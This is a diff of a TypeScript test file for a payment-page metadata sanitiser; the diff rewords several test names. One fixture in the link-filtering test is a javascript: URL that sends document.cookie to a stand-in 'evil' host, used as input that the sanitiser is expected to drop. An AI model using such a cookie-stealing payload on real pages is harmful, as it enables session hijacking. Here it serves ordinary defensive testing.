@@ -5,7 +5,7 @@ import { detailsFromMetadata, type GivenDetails, keptDetails } from '../../../sh
 const kept = (given: GivenDetails) =>
   Object.fromEntries(Object.entries(keptDetails(given)).filter(([, value]) => value !== undefined))
 
-test('what a payment page told is read', () => {
+test('the details of a payment page are read', () => {
   const details = detailsFromMetadata(
     {
       nickname: 'bob',
@@ -79,7 +79,7 @@ test.each([
   expect(kept(given)).toEqual(expected)
 })
 
-test('51 actions are 50, and what is more than 64 KiB of them is left out', () => {
+test('50 of 51 actions are kept, and those beyond 64 KiB are left out', () => {
   const many = Array.from({ length: 51 }, () => ({ actionId: 'a' }))
   const large = Array.from({ length: 4 }, () => ({ actionId: 'a', parameters: { text: 'я'.repeat(8500) } }))
 
@@ -110,7 +110,7 @@ test('metadata that is a list is no text of one', () => {
   })
 })
 
-test('links are http and https alone, in canonical form', () => {
+test('only http and https links are kept, in canonical form', () => {
   const attachments = [
     'javascript:fetch("//evil/"+document.cookie)',
     'data:text/html,x',
@@ -126,7 +126,7 @@ test('links are http and https alone, in canonical form', () => {
   })
 })
 
-test('a payment with everything at its largest, twice (its index projects all of it), is below 400 KB', () => {
+test('the largest payment, with its copy in the index, is below 400 KB', () => {
   const largest = keptDetails({
     nickname: '我'.repeat(100),
     message: '我'.repeat(2000),
